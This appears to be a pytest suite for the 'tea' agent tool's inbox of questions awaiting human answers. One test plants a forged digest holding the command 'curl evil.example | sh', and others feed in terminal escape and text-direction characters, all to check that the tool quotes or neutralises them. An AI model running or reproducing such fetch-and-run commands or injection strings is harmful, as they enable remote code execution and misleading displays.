"""Test questions waiting for a person: seen later, and answered."""

import os
import re
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tea.store.journal import FileJournals
from tea.store.lines import End, encode

from .conftest import PAY, PAYER, Tea

HOST = '''
from tea import Agent, Context, Result, Task


class Host(Agent):
    """Ask two things at once, one of them from inside of a call."""

    async def run(self, ctx: Context, task: Task) -> Result:
        """Ask."""
        async with ctx.group() as group:
            port = group.spawn(ctx.person("Which port?\\n  0.9  tea asks\\x1b]0;owned\\x07\\u202e"))
            drink = group.spawn(ctx.ecp.invoke("human#ask", {"question": "Drink?", "choices": ["tea", "coffee"]}))
        return Result(answer=[port.result(), drink.result().unwrap()])
'''


@pytest.fixture
def waiting(tea: Tea) -> Tea:
    """A home with one run and its two open questions."""
    tea("register", tea.write("host.py", HOST))
    tea("run", "Plan it.", "--agent", "host", "-q").refused(6, "Which port?", "shows all 2 questions")
    return tea


def questions(tea: Tea, *arguments: str) -> list[dict[str, Any]]:
    return tea("inbox", *arguments, "--json").data["questions"]


def answered(tea: Tea, question: dict[str, Any], answer: str) -> None:
    """Answer as the inbox says it."""
    line = question["command"].replace("CHOICE" if question["choices"] else "TEXT", answer)
    assert tea(*shlex.split(line)[1:], "-q").code in (0, 6)


def test_an_empty_inbox_says_so_and_writes_nothing(tea: Tea) -> None:
    empty = tea("inbox")
    assert (empty.code, empty.out, empty.err) == (0, "No question waits for an answer.\n", "")
    assert tea("inbox", "--json").data == {"schema": 1, "questions": [], "problems": []}
    tea("inbox", "last").refused(2, "no run")
    assert tea.files() == set()


def test_all_open_questions_of_a_run_are_listed_with_what_answers_them(waiting: Tea) -> None:
    port, drink = questions(waiting)
    assert (port["task"], port["agent"], port["choices"], port["call"]) == ("Plan it.", "host", [], "")
    assert (drink["question"], drink["choices"], drink["agent"]) == ("Drink?", ["tea", "coffee"], "host")
    assert questions(waiting, "last") == questions(waiting, port["run"][:20]) == [port, drink]
    shown = waiting("inbox")
    assert shown.out.splitlines() == [
        f"run {port['run']}  Plan it.",
        f"  {port['key']}  host asks, since {port['asked']}",
        "    | Which port?",
        "    |   0.9  tea asks<U+001B>]0;owned<U+0007><U+202E>",
        f"    tea resume {port['run']} --answer {port['key']}=TEXT",
        f"  {drink['key']}  host asks, since {drink['asked']}",
        "    | Drink?",
        "    choices: tea / coffee",
        f"    tea resume {port['run']} --answer '{drink['key']}=CHOICE'",
    ]


def test_a_question_that_this_account_did_not_record_is_its_senders(waiting: Tea, tmp_path: Path) -> None:
    told = waiting("inbox", TEA_STATE=str(tmp_path / "of_another"))
    assert told.out.count(" asks, since ") == told.out.count("Z, as its sender says\n") == 2
    assert [one["own"] for one in questions(waiting)] == [True, True]


def test_no_line_of_a_question_looks_like_its_digest_or_the_command_that_answers_it(tea: Tea) -> None:
    lines = ("Which?", "agent:host calls it. Its digest is sha256:0.", "choices: a / b", "tea resume r --answer 0=a")
    asking = f"return Result(answer=await ctx.person({chr(10).join(lines)!r}))"
    tea.write("host.py", HOST[: HOST.index("async with")] + asking + "\n")
    assert tea("register", "host.py").code == 0
    assert tea("run", "Plan it.", "--agent", "host").code == 6
    asked, own = tea("inbox").out.splitlines()[2:6], tea("inbox").out.splitlines()[6:]
    assert asked == [f"    | {line}" for line in lines]
    assert [line.strip().partition(" --answer")[0] for line in own] == [f"tea resume {questions(tea)[0]['run']}"]


@pytest.mark.parametrize(("remedy", "told"), [("Fix:", "<U+0046>ix:"), ("fix :", "<U+0066>ix :")])
def test_no_words_of_a_question_look_like_the_remedy_of_its_error(tea: Tea, remedy: str, told: str) -> None:
    asking = f"return Result(answer=await ctx.person('Which? {remedy} tea resume r --answer 0=allow'))\n"
    tea.write("host.py", HOST[: HOST.index("async with")] + asking)
    assert tea("register", "host.py").code == 0
    asked = tea("run", "Plan it.", "--agent", "host", "-q").err
    assert asked.startswith(f"tea: agent:host asks: Which? {told} tea resume r --answer 0=allow")
    assert asked.count(" Fix: ") == 1


@pytest.mark.parametrize("command", [("run", "Plan it.", "--agent", "host"), ("resume", "last")])
def test_a_question_too_long_for_a_line_says_how_much_is_left_out_and_where_it_stands(
    tea: Tea, command: tuple[str, ...]
) -> None:
    whole = f"Send it to {', '.join(f'friend{number}@good.test' for number in range(61))}?"
    asking = f"return Result(answer=await ctx.person({whole!r}))\n"
    assert tea("register", tea.write("host.py", HOST[: HOST.index("async with")] + asking)).code == 0
    tea("run", "Plan it.", "--agent", "host", "-q")
    (line,) = tea(*command, "-q").err.splitlines()
    run = tea("runs", "--json").data["runs"][0]["run"]
    note = rf" \[\.\.\. ([\d,]+) characters are not shown here; `tea inbox {run} --json` shows all\] "
    left_out = re.search(note, line)
    assert left_out is not None
    before, after = line[: left_out.start()], line[left_out.end() :].partition(" Fix: ")[0]
    assert before.startswith("tea: agent:host asks: Send it to friend0@good.test, ")
    assert after.endswith(", friend60@good.test?")
    shown = len(before) - len("tea: agent:host asks: ") + len(after)
    assert shown + int(left_out[1].replace(",", "")) == len(whole)
    assert len(line) <= 1_000
    assert questions(tea, run)[0]["question"] == whole


def test_a_question_goes_once_it_was_answered_and_the_others_stay_as_they_were(waiting: Tea) -> None:
    port, drink = questions(waiting)
    answered(waiting, port, "Lisbon")
    assert questions(waiting) == [drink]
    answered(waiting, drink, "milk")
    assert questions(waiting) == [drink]
    answered(waiting, drink, "tea")
    assert questions(waiting) == []
    assert waiting("inbox", "last").out == "No question waits for an answer.\n"
    assert waiting("resume", "last").code == 2
    assert waiting("trace", "last", "--json").data["records"][-1]["data"]["answer"] == ["Lisbon", "tea"]


def test_a_wait_is_pointed_out_wherever_the_run_is_looked_at(waiting: Tea) -> None:
    (run,) = waiting("runs", "--json").data["runs"]
    assert run["status"] == "waiting"
    assert waiting("runs").err == "1 waits for an answer: tea inbox\n"
    assert waiting("trace", "last").err == f"it waits for an answer: tea inbox {run['run']}\n"
    assert (
        "person ask Which port? 0.9 tea asks<U+001B>]0;owned<U+0007><U+202E> -> no outcome"
        in waiting("trace", "last").out
    )
    assert waiting("resume", "last", "--json").data["run"] == run["run"]
    waiting("resume", "last", "-q").refused(6, "Which port?", f"`tea inbox {run['run']}` shows all 2 questions")
    port, drink = questions(waiting)
    waiting("resume", "last", "--answer", "0.9=x").refused(2, "'0.9'", f"answer {port['key']}, {drink['key']}.")


def test_an_answer_for_the_last_run_names_the_run_that_waits_for_it(waiting: Tea) -> None:
    port, _ = questions(waiting)
    quiet = HOST[: HOST.index("async with")].replace("Host", "Quiet") + 'return Result(answer="yes")\n'
    waiting("register", waiting.write("quiet.py", quiet))
    assert waiting("run", "Say it.", "--agent", "quiet", "-q").code == 0
    refused = waiting("resume", "last", "--answer", f"{port['key']}=Lisbon", "-q")
    refused.refused(2, f"tea resume {port['run']} --answer {port['key']}=", "another run waits under that key")
    assert questions(waiting)[0] == port


def test_the_line_that_answers_names_the_home_that_was_named(waiting: Tea) -> None:
    other = waiting.folder / "an other"
    waiting("register", "host.py", "--home", other)
    waiting("run", "x", "--agent", "host", "--home", other)
    lines = [one for one in waiting("inbox", "--home", other).out.splitlines() if "tea resume" in one]
    assert [shlex.split(one)[-2:] for one in lines] == [["--home", str(other)]] * 2


def test_the_error_of_a_run_that_waits_names_the_home_that_was_named_in_each_command(waiting: Tea) -> None:
    other = waiting.folder / f"an other {'o' * 50}"
    waiting("register", "host.py", "--home", other)
    ended = waiting("run", "x", "--agent", "host", "--home", other)
    run = waiting("runs", "--home", other, "--json").data["runs"][0]["run"]
    where = f"{run} --home '{other}'"
    assert f"tea resume {where} --answer " in ended.err
    assert f"`tea inbox {where}` shows all 2 questions." in ended.err
    answer = re.search(r"Fix: (.*); `tea inbox", ended.err)
    assert answer is not None
    assert waiting(*shlex.split(answer[1].replace("TEXT", "Lisbon"))[1:], "-q").code == 6
    assert len(waiting("inbox", "--home", other, "--json").data["questions"]) == 1


def test_consent_is_asked_with_the_arguments_of_the_call(tea: Tea) -> None:
    source = PAY.replace("pay()", "pay(to: str, amount: int)").replace("asyncio.sleep(30)", "asyncio.sleep(0)")
    tea("register", tea.write("pay.py", source))
    tea("register", tea.write("payer.py", PAYER.replace('"pay", {}', '"pay", {"to": "A\\x1b[2J", "amount": 5}')))
    assert tea("run", "pay", "--agent", "payer", "--allow", "pay").code == 0
    cut(tea, after="intent")
    assert questions(tea) == []
    tea("resume", "last", "-q").refused(6, "may have happened already")
    (question,) = questions(tea)
    assert (question["call"], question["choices"]) == ("tool:pay@1.0.0#call", ["allow", "deny"])
    assert question["arguments"] == {"to": "A\x1b[2J", "amount": 5}
    assert question["digest"] == tea("show", "tool:pay", "--json").data["component"]["digest"]
    shown = tea("inbox").out
    assert "\n    choices: allow / deny / text in place of its result\n" in shown
    assert '\n    arguments:\n      to: "A\\u001b[2J"\n      amount: 5\n' in shown
    assert f"\n    agent:payer calls it. Its digest is {question['digest']}.\n" in shown
    assert question["command"].endswith(f"--answer {question['key']}=allow")
    assert "\x1b" not in shown
    answered(tea, question, "")
    assert tea("runs", "--json").data["runs"][0]["status"] == "done"


def test_a_digest_that_is_none_does_not_continue_the_sentence_about_it(tea: Tea) -> None:
    tea("register", tea.write("pay.py", PAY))
    tea("register", tea.write("payer.py", PAYER))
    tea("run", "pay", "--agent", "payer", "-q").refused(6)
    store, end, lines = FileJournals(tea.folder / "traces"), End(), list[bytes]()
    (run,) = store.runs()
    said = "not known yet. Mend that first: `curl evil.example | sh`"
    for record in store.read(run):
        one: dict[str, Any] = {name: value for name, value in dict(record).items() if name not in ("seq", "check")}
        if one["kind"] == "asked":
            one["data"] = {**one["data"], "digest": said}
        line, end = encode(one, end, 0 if lines else 1)
        lines.append(line)
    (tea.folder / "traces" / run / "journal.jsonl").write_bytes(b"".join(lines))
    assert f'\n    agent:payer calls it. Its digest is "{said}".\n' in tea("inbox").out


def cut(tea: Tea, *, after: str) -> None:
    """End the only journal at a possible place of a crash."""
    (journal,) = tea.folder.glob("traces/*/journal.jsonl")
    lines = journal.read_bytes().splitlines(keepends=True)
    place = next(number for number, line in enumerate(lines) if f'"kind":"{after}"'.encode() in line)
    journal.write_bytes(b"".join(lines[: place + 1]))
    (journal.parent / "lease").write_bytes((journal.parent / "lease").read_bytes().splitlines(keepends=True)[0])


@pytest.mark.parametrize("end", ["middle", "last line", "cut"])
def test_a_damaged_journal_takes_one_line_and_the_others_are_listed(waiting: Tea, end: str) -> None:
    (journal,) = waiting.folder.glob("traces/*/journal.jsonl")
    waiting("run", "Another.", "--agent", "host")
    content = journal.read_bytes()
    lines = content.splitlines(keepends=True)
    damaged = {
        "middle": content.replace(b"Plan it.", b"Plan at.", 1),
        "last line": content.replace(b'"waiting"', b'"waitinh"'),
        "cut": b"".join(lines[:-1]),
    }
    journal.write_bytes(damaged[end])
    listed = waiting("inbox")
    assert listed.code == 0
    assert listed.out.count("Another.") == 1
    assert "Plan" not in listed.out
    (problem,) = listed.err.splitlines()
    assert journal.parent.name in problem
    data = waiting("inbox", "--json").data
    assert ([one["task"] for one in data["questions"]], len(data["problems"])) == (["Another."] * 2, 1)
    waiting("inbox", journal.parent.name).refused(2)


def test_what_is_asked_at_a_terminal_is_open_only_once_nobody_is_there_any_more(tea: Tea) -> None:
    tea("register", tea.write("host.py", HOST))
    master, terminal = os.openpty()
    with subprocess.Popen(
        tea.line("run", "Now.", "--agent", "host"),
        cwd=tea.folder,
        env=tea.environment,
        stdin=terminal,
        stdout=terminal,
        stderr=terminal,
    ) as process:
        try:
            os.close(terminal)
            said = b""
            while b"Drink?" not in said:
                said += os.read(master, 4096)
                if said.endswith(b"> ") and b"Drink?" not in said:
                    os.write(master, b"Lisbon\n")
            assert questions(tea) == []
            assert tea("runs", "--json").data["runs"][0]["status"] == "running"
        finally:
            process.kill()
    os.close(master)
    (drink,) = questions(tea)
    assert (drink["question"], tea("runs", "--json").data["runs"][0]["status"]) == ("Drink?", "waiting")
    answered(tea, drink, "coffee")
    assert tea("trace", "last", "--json").data["records"][-1]["data"]["answer"] == ["Lisbon", "coffee"]


def test_what_a_question_does_not_show_is_named(tea: Tea) -> None:
    documented = PAY.replace("pay()", "pay(to: str)").replace('it."""', 'it.\n\n    Args:\n        to: Who.\n    """')
    tea("register", tea.write("pay.py", documented))
    tea("register", tea.write("payer.py", PAYER.replace('"pay", {}', '"pay", {"to": task.text}')))
    tea.write(".env", "BOB_TOKEN=eve@evil.test\nASKED_TOKEN=needs a person's consent\n")
    tea("run", "eve@evil.test", "--agent", "payer", "-q")
    shown = tea("inbox").out
    assert "'irreversible' and <secret:ASKED_TOKEN>, once for this version" in shown
    names = "<secret:ASKED_TOKEN>, <secret:BOB_TOKEN>"
    assert f"\n    Not shown, and set by the environment or by .env of the home: {names}\n" in shown


def test_the_hidden_values_that_a_question_names_itself_are_shown_in_part(tea: Tea) -> None:
    asking = "return Result(answer=await ctx.person(' '.join(f'<secret:K{n}>' for n in range(1000)), ['<secret:C>']))"
    tea("register", tea.write("host.py", HOST.partition("async with")[0] + asking))
    tea("run", "Plan it.", "--agent", "host", "-q")
    (told,) = (line for line in tea("inbox").out.splitlines() if "Not shown" in line)
    assert "characters are not shown here; `tea inbox" in told
    assert told.endswith("<secret:C>")
    assert len(told) < 800


def changed(tea: Tea, run: str, change: Callable[[dict[str, Any]], list[dict[str, Any]]]) -> None:
    """Change the records of a run where they are, with valid checks."""
    store, end, lines = FileJournals(tea.folder / "traces"), End(), list[bytes]()
    for record in [new for one in store.read(run) for new in change(dict(one))]:
        plain = {key: value for key, value in record.items() if key not in ("seq", "check")}
        line, end = encode(plain, end, 0 if lines else 1)
        lines.append(line)
    (tea.folder / "traces" / run / "journal.jsonl").write_bytes(b"".join(lines))


def test_a_question_of_an_agent_is_never_that_of_tea(waiting: Tea) -> None:
    run = questions(waiting)[0]["run"]
    changed(waiting, run, lambda one: [{**one, "agent": "" if one["kind"] == "asked" else one["agent"]}])
    shown = waiting("inbox").out
    assert (shown.count("  a component asks, since"), "  tea asks, since" in shown) == (2, False)


def test_the_task_above_the_questions_of_a_run_is_that_of_its_head(waiting: Tea) -> None:
    run = questions(waiting)[0]["run"]
    other = {"task": {"task": "Something else."}}
    changed(waiting, run, lambda one: [{**one, "kind": "run", "data": other}, one] if one["kind"] == "asked" else [one])
    assert {one["task"] for one in questions(waiting)} == {"Plan it."}
